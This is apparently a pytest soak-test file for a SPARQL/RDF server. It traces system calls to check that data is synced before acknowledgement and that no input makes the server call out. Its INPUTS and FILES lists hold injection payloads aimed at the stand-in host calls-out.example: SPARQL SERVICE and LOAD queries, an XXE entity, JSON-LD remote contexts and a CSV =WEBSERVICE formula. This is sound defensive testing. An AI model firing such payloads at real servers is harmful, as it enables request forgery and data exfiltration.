"""What a tracer of system calls sees: a sync before each acknowledgement, and no call out."""

from __future__ import annotations

import re
import urllib.parse
from pathlib import Path

import pytest

from graph.access import Keys
from running import Running, running
from served import a_copy
from test_served_crashes import file

pytestmark = pytest.mark.soak
_OWNER = "942110464"
_SYNC = re.compile(r"(fsync|fdatasync)\(\d+\)\s+= 0|<\.\.\. (fsync|fdatasync) resumed>\)\s+= 0")
_OUT = re.compile(r"(connect|sendto|sendmsg)\(.*sa_family=AF_INET")
_HOST = "calls-out.example"


def test_an_acknowledgement_is_sent_after_a_sync(shipped: Path, tmp_path: Path) -> None:
    store, trace = a_copy(shipped, tmp_path / "store"), tmp_path / "trace"
    _, token = Keys(store).make("trial", [_OWNER], ["submit"], days=1)
    calls = "trace=fsync,fdatasync,write,writev,send,sendto,sendmsg,rename"
    before = ("strace", "-f", "-s", "60", "-o", str(trace), "-e", calls)
    with running(store, tmp_path / "log", before=before, writing=True) as server:
        told = hand_in(server, token, file(1))
        assert told == 201
    lines = trace.read_text("utf-8", "replace").splitlines()
    said = next(at for at, line in enumerate(lines) if "HTTP/1.1 201" in line)
    begun = max(at for at, line in enumerate(lines[:said]) if "HTTP/1.1" in line)
    synced = [line for line in lines[begun:said] if _SYNC.search(line)]
    print(f"{len(synced)} syncs between the request and its acknowledgement")
    assert len(synced) >= 3


def hand_in(server: Running, token: str, content: bytes) -> int:
    """Hand a file in, and give the status."""
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "text/turtle"}
    return server.ask("/api/v1/submissions", content, headers).status


INPUTS = {
    "/sparql": [
        f"SELECT * {{ SERVICE <http://{_HOST}/sparql> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ SERVICE SILENT <http://{_HOST}/sparql> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ \\u0053ERVICE <http://{_HOST}/sparql> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ VALUES ?x {{ <http://{_HOST}/>}} SERVICE ?x {{ ?s ?p ?o }} }}",
        f"SELECT * FROM <http://{_HOST}/graph> {{ ?s ?p ?o }}",  # noqa: S608
        f"SELECT * FROM NAMED <http://{_HOST}/graph> {{ GRAPH ?g {{ ?s ?p ?o }} }}",  # noqa: S608
        f"LOAD <http://{_HOST}/graph>",
        f"INSERT DATA {{ <http://{_HOST}/> a <http://{_HOST}/> }}",
        f"DESCRIBE <http://{_HOST}/>",
        f"CONSTRUCT {{ ?s ?p <http://{_HOST}/> }} {{ ?s ?p ?o }}",
    ],
}
FILES = {
    "application/ld+json": [
        f'{{"@context": "http://{_HOST}/context", "@id": "http://{_HOST}/a", "name": "a"}}',
        f'{{"@context": {{"@import": "http://{_HOST}/context"}}, "name": "a"}}',
    ],
    "application/rdf+xml": [
        f'<!DOCTYPE a [<!ENTITY b SYSTEM "http://{_HOST}/b">]><a>&b;</a>',
        f'<?xml-stylesheet href="http://{_HOST}/a.xsl"?><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>',
    ],
    "text/turtle": [
        f"<http://{_HOST}/a> a <http://www.w3.org/2002/07/owl#Ontology> ; "
        f"<http://www.w3.org/2002/07/owl#imports> <http://{_HOST}/b> .",
        f"@base <http://{_HOST}/> . <a> a <b> .",
    ],
    "text/csv": [f'Navn;Adresse\n=WEBSERVICE("http://{_HOST}/");http://{_HOST}/\n'],
}


def test_no_input_makes_the_server_call_out(shipped: Path, tmp_path: Path) -> None:
    store, trace = a_copy(shipped, tmp_path / "store"), tmp_path / "trace"
    _, token = Keys(store).make("trial", [_OWNER], ["submit"], days=1)
    before = ("strace", "-f", "-o", str(trace), "-e", "trace=connect,sendto,sendmsg,socket")
    sent = 0
    with running(store, tmp_path / "log", before=before, writing=True) as server:
        for text in INPUTS["/sparql"]:
            quoted = urllib.parse.quote(text)
            for path, content, media in (
                (f"/sparql?query={quoted}", None, ""),
                ("/sparql", f"query={quoted}".encode(), "application/x-www-form-urlencoded"),
                ("/sparql", text.encode(), "application/sparql-query"),
                ("/sparql", text.encode(), "application/sparql-update"),
                (f"/sparql?default-graph-uri=http://{_HOST}/&query={quoted}", None, ""),
            ):
                told = server.ask(path, content, {"Content-Type": media} if media else {})
                assert told.status < 500, (path, told)
                sent += 1
        for media, texts in FILES.items():
            for text in texts:
                for path in ("/api/v1/validate", "/api/v1/submissions"):
                    headers = {"Content-Type": media, "Authorization": f"Bearer {token}"}
                    assert server.ask(path, text.encode(), headers).status < 500
                    sent += 1
        for path in ("/about?iri=", "/api/v1/things?iri=", "/api/v1/labels?iri="):
            server.ask(path + urllib.parse.quote(f"http://{_HOST}/a"))
            sent += 1
    lines = trace.read_text("utf-8", "replace").splitlines()
    out = [line for line in lines if _OUT.search(line)]
    print(f"{sent} inputs, {len(out)} connections out")
    assert any("AF_INET" in line for line in lines), "the trace saw no socket at all"
    assert not out, "\n".join(out[:5])
